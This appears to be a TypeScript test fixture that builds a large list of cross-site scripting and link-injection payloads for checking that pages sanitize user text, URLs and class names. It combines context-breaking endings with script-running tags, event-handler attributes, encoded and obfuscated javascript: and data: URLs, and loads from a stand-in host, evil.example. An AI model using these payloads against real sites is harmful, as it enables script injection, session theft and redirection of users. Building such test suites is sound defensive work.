/** Called by every payload that gets to run; the pages under test count the calls. */
const RUN = 'pwned()';
/** Where payloads would fetch from or lead to. The name resolves nowhere. */
const FOREIGN = 'evil.example';

/** What ends the place that a text may stand in: an attribute, an element, a comment, a script, a template. */
const ENDS = [
  '',
  '">',
  "'>",
  '` >',
  '-->',
  ']]>',
  '</title>',
  '</textarea></select>',
  '</style>',
  '</script>',
  '</noscript></template>',
  '</svg></math>',
  '\\u003c/script>',
  '&#34;&gt;',
];

/** Ways to run a script or to fetch, given that a tag is taken as one. */
const CORES = [
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `<script src=//${FOREIGN}/a.js></script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<style>@import '//${FOREIGN}/a.css';</style>`,
  `<link rel=stylesheet href=//${FOREIGN}/b.css>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//${FOREIGN}/>`,
];

/** Payloads without a tag: for attributes, templates, encodings and parsers that decode twice. */
const OTHERS = [
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  `" style="background:url(//${FOREIGN}/c.png)" x="`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src=x%20onerror=${RUN}%3E`,
  `\u{ff1c}img src=x onerror=${RUN}\u{ff1e}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\u2028${RUN}\u2029`,
  `[x](javascript:${RUN})`,
  `![x](//${FOREIGN}/d.png)`,
  `javascript:${RUN}`,
];

/** Well over two hundred ways to make a text run, each with every end that may have to come before it. */
export const TEXT_PAYLOADS: readonly string[] = [
  ...ENDS.flatMap((end) => CORES.map((core) => `${end}${core}`)),
  ...OTHERS,
];

/** Addresses that must not become a link, a picture or a frame. */
export const LINK_PAYLOADS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript://${FOREIGN}/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `blob:https://${FOREIGN}/1`,
  `file:///etc/passwd`,
  `filesystem:https://${FOREIGN}/x`,
  `intent://${FOREIGN}#Intent;scheme=http;end`,
  `ftp://${FOREIGN}/`,
  `ws://${FOREIGN}/`,
  `//${FOREIGN}/`,
  `///${FOREIGN}/`,
  `/\\${FOREIGN}/`,
  `\\\\${FOREIGN}/`,
  `/\t/${FOREIGN}/`,
  `/\n/${FOREIGN}/`,
  `https:${FOREIGN}`,
  `https:\\\\${FOREIGN}`,
  `https://user:word@${FOREIGN}/`,
  `https://${FOREIGN}/"onmouseover="${RUN}`,
  `https://${FOREIGN}/'><img src=x onerror=${RUN}>`,
  `#"><img src=x onerror=${RUN}>`,
  `/machines"><img src=x onerror=${RUN}>`,
  `mailto:a@${FOREIGN}?subject=x%0d%0aBcc:b@${FOREIGN}`,
  `mailto:"><img src=x onerror=${RUN}>`,
  `tel:+1"><img src=x onerror=${RUN}>`,
  `url(javascript:${RUN})`,
];

/** Classes and effects that an editor chooses from a list, written by hand. */
export const CLASS_PAYLOADS: readonly string[] = [
  `bg-[url(//${FOREIGN}/e.png)]`,
  `"><img src=x onerror=${RUN}>`,
  `fixed inset-0 z-50`,
  `" onmouseover="${RUN}" style="background:url(//${FOREIGN}/f.png)`,
  `javascript:${RUN}`,
];
